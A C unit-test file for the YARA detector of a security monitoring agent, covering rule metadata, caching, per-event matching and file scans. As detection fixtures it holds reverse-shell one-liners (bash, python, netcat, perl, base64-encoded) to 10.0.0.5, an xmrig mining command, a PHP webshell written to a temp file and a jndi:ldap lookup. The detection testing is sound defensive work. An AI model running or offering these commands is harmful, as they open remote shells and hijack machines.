/* test_yara.c - the YARA detector: metadata, externals, namespaces, the
   compiled-rules cache, per-event semantics of the batch scan, private rules,
   file scans, and the community sets of the corpus. */
#include <criterion/criterion.h>
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "agent/config.h"
#include "detectors/detector.h"
#include "detectors/yara_cond.h"
#include "detectors/yara_det.h"
#include "corpus.h"

#define MAXA 256

typedef struct alert {
    char id[200];
    size_t ev;
    char extra[2048];
} alert;

typedef struct env {
    char dir[512];
    char state[600];
    vg_config cfg;
    vg_stats *st;
    void *det;
    void *scr;
    size_t nfiles;
    int errors, warnings;
    int err_line[16];
    char err_file[16][300];
    vg_batch b;
    alert a[MAXA];
    size_t na;
    vg_stream stream;
} env;

static void on_diag(void *ud, const vg_diag *d)
{
    env *e = ud;
    if (d->is_warning) {
        e->warnings++;
        return;
    }
    if (getenv("TEST_YARA_DIAG"))
        fprintf(stderr, "diag: %s:%d: %s\n", d->file ? d->file : "?", d->line, d->msg);
    if (e->errors < 16) {
        e->err_line[e->errors] = d->line;
        snprintf(e->err_file[e->errors], sizeof e->err_file[0], "%s", d->file ? d->file : "");
    }
    e->errors++;
}

static void on_emit(void *ud, const vg_rule_meta *r, vg_event *ev)
{
    env *e = ud;
    if (e->na >= MAXA)
        return;
    alert *a = &e->a[e->na++];
    snprintf(a->id, sizeof a->id, "%s", r->id);
    a->ev = (size_t)(ev - e->b.ev);
    snprintf(a->extra, sizeof a->extra, "%s", ev->vigie_extra ? ev->vigie_extra : "");
}

static void env_init(env *e)
{
    memset(e, 0, sizeof *e);
    snprintf(e->dir, sizeof e->dir, "/tmp/vg_yara_XXXXXX");
    cr_assert(mkdtemp(e->dir));
    snprintf(e->state, sizeof e->state, "%s/state", e->dir);
    mkdir(e->state, 0700);
    e->cfg.state_dir = e->state;
    e->cfg.yara_cache = true;
    e->cfg.yara_timeout_ms = 1000;
    e->cfg.yara_file_max_size = 1 << 20;
    e->cfg.yara_file_rate = 100;
    e->st = vg_stats_create();
    vg_batch_init(&e->b, 64, 1 << 20);
    snprintf(e->stream.id, sizeof e->stream.id, "test:1");
    e->stream.name = "/var/log/test.log";
    e->stream.input = "test";
}

static void write_file(const char *dir, const char *name, const char *text)
{
    char p[512];
    snprintf(p, sizeof p, "%s/%s", dir, name);
    FILE *f = fopen(p, "w");
    cr_assert(f);
    fputs(text, f);
    fclose(f);
}

/* (Re)load every .yar of e->dir. */
static void env_load(env *e)
{
    if (e->scr)
        vg_detector_yara.scratch_destroy(e->scr);
    if (e->det)
        vg_detector_yara.destroy(e->det);
    e->errors = e->warnings = 0;
    e->det = vg_detector_yara.create(&e->cfg, e->st);
    cr_assert(e->det);
    DIR *d = opendir(e->dir);
    struct dirent *de;
    char *names[64];
    size_t n = 0;
    while ((de = readdir(d)))
        if (strstr(de->d_name, ".yar") && n < 64)
            names[n++] = strdup(de->d_name);
    closedir(d);
    for (size_t i = 0; i < n; i++) /* name order, as the ruleset walks */
        for (size_t k = i + 1; k < n; k++)
            if (strcmp(names[k], names[i]) < 0) {
                char *t = names[i];
                names[i] = names[k];
                names[k] = t;
            }
    for (size_t i = 0; i < n; i++) {
        char p[1024];
        snprintf(p, sizeof p, "%s/%s", e->dir, names[i]);
        vg_detector_yara.load_file(e->det, p, on_diag, e);
        free(names[i]);
    }
    vg_detector_yara.finish(e->det, &e->cfg, on_diag, e);
    e->scr = vg_detector_yara.scratch_create(e->det);
    cr_assert(e->scr);
}

static void env_free(env *e)
{
    vg_detector_yara.scratch_destroy(e->scr);
    vg_detector_yara.destroy(e->det);
    vg_batch_destroy(&e->b);
    vg_stats_destroy(e->st);
    char cmd[600];
    snprintf(cmd, sizeof cmd, "rm -rf '%s'", e->dir);
    cr_assert_eq(system(cmd), 0);
}

/* Run lines as one batch (program: the text before ": " if any). */
static void run(env *e, const char *const *lines, size_t n)
{
    vg_batch_reset(&e->b);
    e->na = 0;
    for (size_t i = 0; i < n; i++) {
        vg_event *ev = vg_batch_push(&e->b);
        ev->raw = (vg_str){lines[i], strlen(lines[i])};
        ev->stream = &e->stream;
        ev->offset = i * 100;
        const char *c = strstr(lines[i], ": ");
        if (c)
            ev->program = (vg_str){lines[i], (size_t)(c - lines[i])};
    }
    vg_match_sink sink = {on_emit, e};
    vg_detector_yara.match(e->det, e->scr, &e->b, &sink);
}

static bool fired(const env *e, const char *rule, size_t ev)
{
    for (size_t i = 0; i < e->na; i++) {
        const char *id = e->a[i].id, *colon = strchr(id, ':');
        if (e->a[i].ev == ev && (!strcmp(id, rule) || (colon && !strcmp(colon + 1, rule))))
            return true;
    }
    return false;
}

static const vg_rule_meta *rule_named(const env *e, const char *name)
{
    for (size_t i = 0;; i++) {
        const vg_rule_meta *m = vg_detector_yara_rule(e->det, i);
        if (!m)
            return NULL;
        if (!strcmp(m->title, name) || !strcmp(m->id, name))
            return m;
    }
}

static bool has_tag(const vg_rule_meta *m, const char *t)
{
    for (size_t i = 0; i < m->tags.n; i++)
        if (!strcmp(m->tags.v[i], t))
            return true;
    return false;
}

Test(yara, meta_mapping)
{
    env e;
    env_init(&e);
    write_file(e.dir, "meta.yar",
               "rule m_score : webshell linux {\n"
               "  meta:\n"
               "    description = \"the description\"\n"
               "    author = \"someone\"\n"
               "    reference = \"https://example.org/r\"\n"
               "    score = 75\n"
               "    mitre_att = \"T1059.004\"\n"
               "    date = \"2024-01-02\"\n"
               "  strings: $a = \"zzscorezz\"\n"
               "  condition: $a }\n"
               "rule m_level { meta: level = \"critical\" tags = \"T1505.003, attack.persistence\"\n"
               "  strings: $a = \"x1\" condition: $a }\n"
               "rule m_severity { meta: severity = \"low\" attack = \"T1110\"\n"
               "  strings: $a = \"x2\" condition: $a }\n"
               "rule m_none { strings: $a = \"x3\" condition: $a }\n");
    env_load(&e);
    cr_assert_eq(e.errors, 0);
    const vg_rule_meta *m = rule_named(&e, "m_score");
    cr_assert(m);
    cr_assert_str_eq(m->id, "meta:m_score");
    cr_assert_str_eq(m->description, "the description");
    cr_assert_str_eq(m->author, "someone");
    cr_assert_str_eq(m->references.v[0], "https://example.org/r");
    cr_assert_str_eq(m->level, "high");
    cr_assert_str_eq(m->ruleset, "yara");
    cr_assert_str_eq(m->ruleset_version, "2024-01-02");
    cr_assert(has_tag(m, "attack.t1059.004"));
    cr_assert(has_tag(m, "webshell") && has_tag(m, "linux"));
    m = rule_named(&e, "m_level");
    cr_assert_str_eq(m->level, "critical");
    cr_assert(has_tag(m, "attack.t1505.003") && has_tag(m, "attack.persistence"));
    m = rule_named(&e, "m_severity");
    cr_assert_str_eq(m->level, "low");
    cr_assert(has_tag(m, "attack.t1110"));
    cr_assert_str_eq(rule_named(&e, "m_none")->level, "medium");
    env_free(&e);
}

Test(yara, externals)
{
    env e;
    env_init(&e);
    write_file(e.dir, "ext.yar",
               "rule sshd_only { strings: $a = \"Accepted\" condition: $a and program == \"sshd\" }\n"
               "rule file_ext { condition: filename == \"x\" or filepath == \"y\" or extension == "
               "\"z\" or filetype == \"t\" or owner == \"o\" or hostname == \"h\" or "
               "source contains \"nothere\" or service == \"s\" }\n");
    env_load(&e);
    cr_assert_eq(e.errors, 0);
    const char *lines[] = {"sshd: Accepted password for bob", "cron: Accepted nothing",
                           "sshd: Failed password"};
    run(&e, lines, 3);
    cr_assert(fired(&e, "sshd_only", 0));
    cr_assert(!fired(&e, "sshd_only", 1));
    cr_assert(!fired(&e, "sshd_only", 2));
    cr_assert(!fired(&e, "file_ext", 0));
    env_free(&e);
}

Test(yara, namespaces_per_file)
{
    env e;
    env_init(&e);
    write_file(e.dir, "a.yar", "rule same { strings: $a = \"alpha\" condition: $a }\n");
    write_file(e.dir, "b.yar", "rule same { strings: $a = \"beta\" condition: $a }\n");
    env_load(&e);
    cr_assert_eq(e.errors, 0);
    cr_assert_eq(vg_detector_yara.count(e.det), 2);
    const char *lines[] = {"alpha", "beta"};
    run(&e, lines, 2);
    cr_assert(fired(&e, "a:same", 0) && !fired(&e, "b:same", 0));
    cr_assert(fired(&e, "b:same", 1) && !fired(&e, "a:same", 1));
    env_free(&e);
}

static size_t cache_files(const env *e, char *name, size_t n)
{
    DIR *d = opendir(e->state);
    struct dirent *de;
    size_t k = 0;
    while ((de = readdir(d)))
        if (!strncmp(de->d_name, "yara-", 5)) {
            k++;
            snprintf(name, n, "%s/%s", e->state, de->d_name);
        }
    closedir(d);
    return k;
}

Test(yara, cache_hit_stale_corrupt)
{
    env e;
    env_init(&e);
    char cache[1024];
    write_file(e.dir, "c.yar", "rule c1 { strings: $a = \"cached\" condition: $a }\n");
    env_load(&e);
    cr_assert(!vg_detector_yara_from_cache(e.det));
    cr_assert_eq(cache_files(&e, cache, sizeof cache), 1);
    write_file(e.dir, "d.yar", "rule c_anchor { meta: scope = \"both\" strings: $a = "
                               "/^anchored-start/ condition: $a }\n");
    env_load(&e);
    cr_assert(!vg_detector_yara_from_cache(e.det));
    env_load(&e);
    cr_assert(vg_detector_yara_from_cache(e.det), "second load comes from the cache");
    const char *al[] = {"x", "anchored-start here", "not anchored-start"};
    run(&e, al, 3);
    cr_assert(fired(&e, "c_anchor", 1), "anchored rules known from the cache");
    cr_assert_eq(e.na, 1);
    const char *lines[] = {"a cached line"};
    run(&e, lines, 1);
    cr_assert(fired(&e, "c1", 0));
    /* stale: the source changed */
    write_file(e.dir, "c.yar", "rule c1 { strings: $a = \"changed\" condition: $a }\n");
    env_load(&e);
    cr_assert(!vg_detector_yara_from_cache(e.det));
    cr_assert_eq(cache_files(&e, cache, sizeof cache), 1, "the stale cache was removed");
    run(&e, lines, 1);
    cr_assert(!fired(&e, "c1", 0));
    /* corrupt: flip a byte in the payload, then truncate */
    FILE *f = fopen(cache, "r+b");
    fseek(f, 200, SEEK_SET);
    int c = fgetc(f);
    fseek(f, 200, SEEK_SET);
    fputc(c ^ 0x55, f);
    fclose(f);
    env_load(&e);
    cr_assert(!vg_detector_yara_from_cache(e.det), "a corrupt cache is not used");
    const char *l2[] = {"changed"};
    run(&e, l2, 1);
    cr_assert(fired(&e, "c1", 0));
    env_load(&e);
    cr_assert(vg_detector_yara_from_cache(e.det), "the rebuilt cache is used");
    cr_assert_eq(truncate(cache, 40), 0);
    env_load(&e);
    cr_assert(!vg_detector_yara_from_cache(e.det));
    cr_assert_eq(vg_detector_yara.count(e.det), 2);
    /* cache off */
    e.cfg.yara_cache = false;
    env_load(&e);
    cr_assert(!vg_detector_yara_from_cache(e.det));
    env_free(&e);
}

static const char *const sem_rules =
    "rule r_not { strings: $a = \"evil\" $b = \"login\" condition: $b and not $a }\n"
    "rule r_count { strings: $a = \"x!\" condition: #a > 3 }\n"
    "rule r_size { strings: $a = \"tiny\" condition: $a and filesize < 12 }\n"
    "rule r_offset { strings: $a = \"HEAD\" condition: @a[1] < 3 }\n"
    "rule r_two { strings: $a = \"first-part\" $b = \"second-part\" condition: $a and $b }\n"
    "rule r_anchor { meta: scope = \"both\" strings: $a = /^start-here/ condition: $a }\n"
    "rule r_at { meta: scope = \"event\" strings: $a = \"ZZ\" condition: $a at 0 }\n"
    "rule r_at_default { strings: $a = \"ZZ\" condition: $a at 0 }\n" /* files only */
    "rule r_b64 { strings: $a = \"secret-word\" base64 condition: $a }\n"
    "rule r_xor { strings: $a = \"secret-word\" xor condition: $a }\n" /* no needle */;

static const char *const sem_lines[] = {
    "user login ok",                   /* 0: r_not */
    "user login evil",                 /* 1: -- */
    "x! x! x!",                        /* 2: 3 only */
    "x! x! x! x!",                     /* 3: r_count */
    "tiny",                            /* 4: r_size */
    "tiny but a long line",            /* 5: -- */
    "HEAD /index",                     /* 6: r_offset */
    "GET HEAD",                        /* 7: -- (offset 4) */
    "first-part",                      /* 8: -- (with 9, r_two would match a joined block) */
    "second-part",                     /* 9: -- */
    "first-part second-part",          /* 10: r_two */
    "start-here please",               /* 11: r_anchor */
    "do not start-here",               /* 12: -- */
    "ZZ top",                          /* 13: r_at */
    "top ZZ",                          /* 14: -- */
    "",                                /* 15: empty event */
    "token eHggc2VjcmV0LXdvcmQgeXk=",      /* 16: r_b64 (needles from its regex AST) */
    "zz rdbsdu,vnse zz",               /* 17: r_xor (key 1; libyara block scan of its file) */
};

static const struct {
    const char *rule;
    size_t ev;
} sem_expect[] = {{"r_not", 0}, {"r_count", 3}, {"r_size", 4}, {"r_offset", 6}, {"r_two", 10},
                  {"r_anchor", 11}, {"r_at", 13}, {"r_b64", 16}, {"r_xor", 17}};

static void check_semantics(env *e)
{
    size_t n = sizeof sem_lines / sizeof sem_lines[0];
    run(e, sem_lines, n);
    size_t ne = sizeof sem_expect / sizeof sem_expect[0];
    for (size_t k = 0; k < ne; k++)
        cr_assert(fired(e, sem_expect[k].rule, sem_expect[k].ev), "%s on event %zu",
                  sem_expect[k].rule, sem_expect[k].ev);
    cr_assert_eq(e->na, ne, "exactly the expected alerts (got %zu)", e->na);
}

Test(yara, per_event_semantics)
{
    env e;
    env_init(&e);
    write_file(e.dir, "sem.yar", sem_rules);
    env_load(&e);
    cr_assert_eq(e.errors, 0);
    check_semantics(&e);
    cr_assert_gt(vg_stats_sum(e.st, "yara.needle_scans"), 0, "needles used");
    cr_assert_gt(vg_stats_sum(e.st, "yara.block_scans"), 0, "and a block scan for r_xor's file");
    /* the same with libyara's block scan instead of the needles */
    setenv("VIGIE_YARA_NO_NEEDLES", "1", 1);
    env_load(&e);
    unsetenv("VIGIE_YARA_NO_NEEDLES");
    check_semantics(&e);
    /* the same in exact mode (every event scanned alone) */
    setenv("VIGIE_YARA_EXACT", "1", 1);
    env_load(&e);
    unsetenv("VIGIE_YARA_EXACT");
    check_semantics(&e);
    env_free(&e);
}

static void block_scan_skips(bool needles)
{
    env e;
    env_init(&e);
    if (!needles)
        setenv("VIGIE_YARA_NO_NEEDLES", "1", 1);
    write_file(e.dir, "two.yar",
               "rule r_two { strings: $a = \"first-part\" $b = \"second-part\" condition: $a and "
               "$b }\n");
    env_load(&e);
    const char *lines[] = {"first-part", "second-part", "nothing", "nothing either"};
    run(&e, lines, 4);
    cr_assert_eq(e.na, 0, "strings of two events never satisfy one condition");
    cr_assert_eq(vg_stats_sum(e.st, "yara.events_skipped"), 2);
    cr_assert_eq(vg_stats_sum(e.st, "yara.block_scans"), needles ? 0 : 1);
    cr_assert_eq(vg_stats_sum(e.st, "yara.needle_scans"), needles ? 1 : 0);
    unsetenv("VIGIE_YARA_NO_NEEDLES");
    env_free(&e);
}

Test(yara, block_scan_skips_events)
{
    block_scan_skips(false);
}

Test(yara, needles_skip_events)
{
    block_scan_skips(true);
}

Test(yara, malformed_file_rejected_others_work)
{
    env e;
    env_init(&e);
    write_file(e.dir, "a_good.yar", "rule good1 { strings: $a = \"good-one\" condition: $a }\n");
    write_file(e.dir, "b_bad.yar", "rule fine { condition: true }\n\nrule broken {\n"
                                   "  strings: $a = \"x\"\n  condition: $a and and\n}\n");
    write_file(e.dir, "c_good.yar", "rule good2 { strings: $a = \"good-two\" condition: $a }\n");
    env_load(&e);
    cr_assert_eq(e.errors, 1);
    cr_assert(strstr(e.err_file[0], "b_bad.yar"), "%s", e.err_file[0]);
    cr_assert_eq(e.err_line[0], 5);
    cr_assert_eq(vg_detector_yara.count(e.det), 2);
    const char *lines[] = {"good-one", "good-two"};
    run(&e, lines, 2);
    cr_assert(fired(&e, "good1", 0) && fired(&e, "good2", 1));
    char c[1024];
    cr_assert_eq(cache_files(&e, c, sizeof c), 0, "a set with a rejected file is not cached");
    env_free(&e);
}

Test(yara, private_rules_and_sigma_field)
{
    env e;
    env_init(&e);
    write_file(e.dir, "p.yar",
               "private rule hidden { strings: $a = \"secret\" condition: $a }\n"
               "rule shown { strings: $a = \"secret\" condition: $a and hidden }\n");
    env_load(&e);
    const char *lines[] = {"a secret word"};
    run(&e, lines, 1);
    cr_assert_eq(e.na, 1);
    cr_assert(fired(&e, "shown", 0));
    const vg_str *y = vg_event_get(&e.b.ev[0], VG_STR("yara"));
    cr_assert(y);
    char v[256];
    snprintf(v, sizeof v, "%.*s", (int)y->n, y->p);
    cr_assert(strstr(v, "|hidden|") && strstr(v, "|p:hidden|") && strstr(v, "|shown|"), "%s", v);
    cr_assert(strstr(e.a[0].extra, "\"strings\":[{\"id\":\"$a\",\"offset\":2,\"length\":6}]"),
              "%s", e.a[0].extra);
    env_free(&e);
}

Test(yara, file_scan_from_event)
{
    env e;
    env_init(&e);
    write_file(e.dir, "req.yar",
               "private rule req { meta: vigie_scan_file = \"name\" scope = \"event\"\n"
               "  strings: $a = \"type=PATH\" condition: $a }\n"
               "rule shell_file { meta: scope = \"file\"\n"
               "  strings: $a = \"eval(base64_decode(\" condition: $a and extension == \".php\" }\n");
    char php[600];
    snprintf(php, sizeof php, "%s/www", e.dir);
    mkdir(php, 0700);
    write_file(php, "x.php", "<?php eval(base64_decode($_POST['z'])); ?>\n");
    env_load(&e);
    char line[900];
    snprintf(line, sizeof line, "type=PATH msg=audit(1.2:3): name=\"%s/x.php\"", php);
    const char *lines[] = {line, "eval(base64_decode( in a log line: scope file, no alert"};
    vg_batch_reset(&e.b);
    e.na = 0;
    for (size_t i = 0; i < 2; i++) {
        vg_event *ev = vg_batch_push(&e.b);
        ev->raw = (vg_str){lines[i], strlen(lines[i])};
        ev->stream = &e.stream;
        ev->offset = 4242;
    }
    char path[700];
    snprintf(path, sizeof path, "%s/x.php", php);
    vg_event_set(&e.b.ev[0], VG_STR("name"), (vg_str){path, strlen(path)});
    vg_match_sink sink = {on_emit, &e};
    vg_detector_yara.match(e.det, e.scr, &e.b, &sink);
    cr_assert_eq(e.na, 0);
    cr_assert(vg_detector_yara_wait_files(e.det, 10000));
    vg_detector_yara.drain(e.det, e.scr, &sink);
    cr_assert_eq(e.na, 1);
    cr_assert_str_eq(e.a[0].id, "req:shell_file");
    cr_assert(strstr(e.a[0].extra, "\"target\":\"file\""), "%s", e.a[0].extra);
    cr_assert(strstr(e.a[0].extra, "\"size\":43"), "%s", e.a[0].extra);
    char cmd[1000], want[80] = "";
    snprintf(cmd, sizeof cmd, "sha256sum '%s'", path);
    FILE *sf = popen(cmd, "r");
    cr_assert(sf && fscanf(sf, "%64s", want) == 1);
    pclose(sf);
    cr_assert(strstr(e.a[0].extra, want), "sha256 %s in %s", want, e.a[0].extra);
    cr_assert(strstr(e.a[0].extra, "\"trigger\":{\"rule\":\"req:req\""), "%s", e.a[0].extra);
    cr_assert(strstr(e.a[0].extra, "\"offset\":4242"), "%s", e.a[0].extra);
    /* the same file again: not rescanned (unchanged) */
    vg_detector_yara.match(e.det, e.scr, &e.b, &sink);
    cr_assert(vg_detector_yara_wait_files(e.det, 10000));
    vg_detector_yara.drain(e.det, e.scr, &sink);
    cr_assert_eq(e.na, 1);
    env_free(&e);
}

Test(yara, shipped_rules)
{
    env e;
    env_init(&e);
    char root[512];
    const char *sr = getenv("VG_SOURCE_ROOT");
    snprintf(root, sizeof root, "%s/rules/yara", sr ? sr : ".");
    DIR *d = opendir(root);
    if (!d)
        cr_skip_test("shipped rules not found at %s (VG_SOURCE_ROOT unset)", root);
    closedir(d);
    char cmd[1200];
    snprintf(cmd, sizeof cmd, "cp '%s'/*.yar '%s'/", root, e.dir);
    cr_assert_eq(system(cmd), 0);
    env_load(&e);
    cr_assert_eq(e.errors, 0);
    cr_assert(!vg_detector_yara_from_cache(e.det));
    env_load(&e); /* a cache larger than one read buffer */
    cr_assert(vg_detector_yara_from_cache(e.det));
    const char *lines[] = {
        "bash: echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuNS80NDMgMD4mMQ== | base64 -d | bash",
        "kernel: xmrig -o stratum+tcp://pool.minexmr.com:4444 -u 44AFFq5kSiGBoZ --donate-level 1",
        "sshd: Accepted publickey for alice from 10.0.0.5 port 51234 ssh2",
        "bash: bash -i >& /dev/tcp/10.0.0.5/4444 0>&1",
        "bash: python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.5\",4444));"
        "os.dup2(s.fileno(),0);pty.spawn(\"/bin/bash\")'",
        "bash: nc -e /bin/sh 10.0.0.5 4444",
        "bash: perl -e 'use Socket;$i=\"10.0.0.5\";socket(S,PF_INET,SOCK_STREAM,getprotobyname("
        "\"tcp\"));connect(S,sockaddr_in(4444,inet_aton($i)));exec(\"/bin/sh -i\");'",
    };
    run(&e, lines, 7);
    cr_assert(fired(&e, "vg_reverse_shell_base64", 0));
    cr_assert(fired(&e, "vg_miner_stratum_url", 1) && fired(&e, "vg_miner_pool_address", 1));
    cr_assert(fired(&e, "vg_miner_xmrig_cmdline", 1));
    for (size_t i = 0; i < e.na; i++)
        cr_assert_neq(e.a[i].ev, 2, "no rule on a plain sshd line (%s)", e.a[i].id);
    cr_assert(fired(&e, "vg_reverse_shell_bash_dev_tcp", 3));
    cr_assert(fired(&e, "vg_reverse_shell_python_pty", 4));
    cr_assert(fired(&e, "vg_reverse_shell_netcat", 5));
    cr_assert(fired(&e, "vg_reverse_shell_perl_socket", 6));
    env_free(&e);
}

static size_t count_yar(const char *dir, char **paths, size_t max, size_t n)
{
    DIR *d = opendir(dir);
    if (!d)
        return n;
    struct dirent *de;
    while ((de = readdir(d))) {
        if (de->d_name[0] == '.')
            continue;
        char p[1024];
        snprintf(p, sizeof p, "%s/%s", dir, de->d_name);
        struct stat st;
        if (stat(p, &st))
            continue;
        if (S_ISDIR(st.st_mode))
            n = count_yar(p, paths, max, n);
        else if ((strstr(de->d_name, ".yar") || strstr(de->d_name, ".yara")) && n < max)
            paths[n++] = strdup(p);
    }
    closedir(d);
    return n;
}

Test(yara, corpus_community_sets_compile, .timeout = 600)
{
    char base[512];
    if (!vg_test_corpus_path(base, sizeof base, "yara-rules"))
        cr_skip_test("corpus not found: ../shared/corpus/yara-rules (skipped)");
    char sb[512];
    bool have_sb = vg_test_corpus_path(sb, sizeof sb, "signature-base/yara");
    env e;
    env_init(&e);
    e.cfg.yara_cache = false;
    e.det = vg_detector_yara.create(&e.cfg, e.st);
    static char *paths[4000];
    size_t n = count_yar(base, paths, 4000, 0);
    if (have_sb)
        n = count_yar(sb, paths, 4000, n);
    for (size_t i = 0; i < n; i++) {
        vg_detector_yara.load_file(e.det, paths[i], on_diag, &e);
        free(paths[i]);
    }
    vg_detector_yara.finish(e.det, &e.cfg, on_diag, &e);
    size_t np = 0, nr = vg_detector_yara_rules(e.det, NULL, &np);
    size_t bad = 0;
    for (size_t i = 0; i < vg_detector_yara_nfiles(e.det); i++)
        bad += !vg_detector_yara_file(e.det, i);
    fprintf(stderr, "corpus: %zu YARA files, %zu rejected, %zu rules loaded (%zu private), %d "
            "warnings\n", n, bad, nr, np, e.warnings);
    cr_assert_gt(nr, 1000);
    e.scr = vg_detector_yara.scratch_create(e.det);
    const char *lines[] = {"sshd: Accepted publickey for alice", "GET /index.html HTTP/1.1"};
    run(&e, lines, 2);
    env_free(&e);
}

/* ---- the condition reader (yara_cond.c): necessary string groups ---- */

typedef struct groups {
    char s[512];
} groups;

static void on_grp(void *ud, const char *p, size_t n, bool all)
{
    groups *g = ud;
    size_t l = strlen(g->s);
    snprintf(g->s + l, sizeof g->s - l, "%s%s%.*s", l ? " | " : "", all ? "all:" : "", (int)n, p);
}

Test(yara, condition_groups_table)
{
    static const struct {
        const char *cond;
        bool ok;
        const char *want;
    } t[] = {
        {"$a", true, "$a"},
        {"$a and $b", true, "$a | $b"},
        {"$a or $b", false, ""},
        {"($a or $b) and $c", true, "$c"},
        {"$sr1 and 1 of ($sa*) and not 1 of ($fp*)", true, "$sr1 | $sa*"},
        {"all of ($s*) and not 1 of ($fp*)", true, "all:$s*"},
        {"any of them", true, "$*"},
        {"all of them", true, "all:$*"},
        {"2 of ($a, $b*) and filesize < 100", true, "$a,$b*"},
        {"#a > 3 and #b >= 0 and #c == 2", true, "$a | $c"},
        {"$a at 0 and $b in (0..10)", true, "$a | $b"},
        {"not $a", true, ""},
        {"uint16(0) == 0x5a4d and $a /* and $z */", true, "$a"},
        {"filename matches /x\\.php/ and $a", false, ""},
        {"for any i in (1..#a): (@a[i] < 10) and $b", true, "$b"},
        {"50% of them", true, ""},
    };
    for (size_t i = 0; i < sizeof t / sizeof t[0]; i++) {
        char src[600];
        snprintf(src, sizeof src,
                 "rule other { condition: $q }\nrule r : tag {\n  strings:\n    $a = \"c\"\n"
                 "  condition:\n    %s\n}\n",
                 t[i].cond);
        groups g = {""};
        bool ok = vg_yara_cond_groups(src, strlen(src), "r", on_grp, &g);
        cr_assert_eq(ok, t[i].ok, "case %zu (%s)", i, t[i].cond);
        if (ok)
            cr_assert_str_eq(g.s, t[i].want, "case %zu (%s)", i, t[i].cond);
    }
}

Test(yara, needles_follow_the_condition)
{
    env e;
    env_init(&e);
    /* " 200 " alone can never make it match: the needle is the URL */
    write_file(e.dir, "n.yar",
               "rule proxy { strings: $sr1 = /autodiscover\\.json[^\\n]{1,30}owershell/ nocase\n"
               "  $sa1 = \" 200 \" $fp1 = \" 404 \"\n"
               "  condition: $sr1 and 1 of ($sa*) and not 1 of ($fp*) }\n"
               "rule ldap { strings: $x = /\\b(ldap|rmi):\\/\\/[a-z0-9.]{1,40}\\.interact\\.sh/\n"
               "  condition: 1 of them }\n");
    env_load(&e);
    const char *lines[] = {
        "10.0.0.1 - - [x] \"GET / HTTP/1.1\" 200 12 \"https://portal/\" \"Mozilla\"",
        "10.0.0.1 - - [x] \"POST /autodiscover/autodiscover.json?x=/powershell HTTP/1.1\" 200 1",
        "x ${jndi:ldap://abc.interact.sh/a} y",
        "see http://example.org/ 200 ok",
    };
    run(&e, lines, 4);
    cr_assert(fired(&e, "proxy", 1) && fired(&e, "ldap", 2));
    cr_assert_eq(e.na, 2);
    cr_assert_eq(vg_stats_sum(e.st, "yara.events_skipped"), 2, "lines 0 and 3 not scanned");
    env_free(&e);
}

/* File scans refused: too large, a symlink, not a regular file, relative
   path, the per-minute rate; each counted, none blocks. */
Test(yara, file_scan_limits)
{
    env e;
    env_init(&e);
    e.cfg.yara_file_max_size = 16;
    e.cfg.yara_file_rate = 4;
    write_file(e.dir, "req.yar",
               "private rule req { meta: vigie_scan_file = \"name\" scope = \"event\"\n"
               "  strings: $a = \"scan-me\" condition: $a }\n"
               "rule any_file { meta: scope = \"file\" condition: true }\n");
    char big[700], lnk[700], dir[700], small[700];
    snprintf(big, sizeof big, "%s/big.txt", e.dir);
    snprintf(lnk, sizeof lnk, "%s/link.txt", e.dir);
    snprintf(dir, sizeof dir, "%s", e.dir);
    snprintf(small, sizeof small, "%s/small.txt", e.dir);
    write_file(e.dir, "big.txt", "0123456789abcdefghijklmnop\n");
    write_file(e.dir, "small.txt", "tiny\n");
    cr_assert_eq(symlink(small, lnk), 0);
    env_load(&e);
    const char *paths[] = {big, lnk, dir, "relative/path.txt", small, small};
    vg_batch_reset(&e.b);
    e.na = 0;
    for (size_t i = 0; i < 6; i++) {
        vg_event *ev = vg_batch_push(&e.b);
        ev->raw = VG_STR("scan-me");
        ev->stream = &e.stream;
        vg_event_set(ev, VG_STR("name"), (vg_str){paths[i], strlen(paths[i])});
    }
    vg_match_sink sink = {on_emit, &e};
    vg_detector_yara.match(e.det, e.scr, &e.b, &sink);
    cr_assert(vg_detector_yara_wait_files(e.det, 10000));
    vg_detector_yara.drain(e.det, e.scr, &sink);
    cr_assert_eq(e.na, 1, "only small.txt is scanned (got %zu)", e.na);
    cr_assert(strstr(e.a[0].extra, "small.txt"), "%s", e.a[0].extra);
    vg_stats *st = e.st;
    cr_assert_eq(vg_stats_sum(st, "yara.file_scans"), 1);
    vg_counter *c;
    c = vg_stats_counter(st, "yara.file_scans_dropped", "reason", "too_large");
    cr_assert_eq(vg_counter_get(c), 1);
    c = vg_stats_counter(st, "yara.file_scans_dropped", "reason", "cannot_open");
    cr_assert_eq(vg_counter_get(c), 1, "the symlink is not followed");
    c = vg_stats_counter(st, "yara.file_scans_dropped", "reason", "not_regular");
    cr_assert_eq(vg_counter_get(c), 2, "a directory and a relative path");
    c = vg_stats_counter(st, "yara.file_scans_dropped", "reason", "rate");
    cr_assert_eq(vg_counter_get(c), 1, "the 5th request of the minute (rate 4)");
    env_free(&e);
}
